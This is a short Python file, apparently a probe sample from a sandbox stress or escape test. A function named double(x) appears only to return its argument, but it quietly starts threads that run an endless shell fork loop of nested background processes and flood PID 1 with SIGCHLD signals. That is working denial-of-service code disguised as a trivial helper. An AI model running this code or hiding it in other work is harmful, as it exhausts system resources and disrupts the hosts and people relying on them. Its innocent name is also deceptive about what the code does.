# tries: to keep the first process of its cell busy with children of others that end, one after the other, and with signals
# reaches: double|longer|ended
import os
import signal
import subprocess
import threading


def rain():
    subprocess.run(["sh", "-c", "while :; do ( ( : & ) & ) ; done"])


def signals():
    while True:
        os.kill(1, signal.SIGCHLD)


def double(x):
    for target in (rain, rain, rain, signals):
        threading.Thread(target=target, daemon=True).start()
    return x
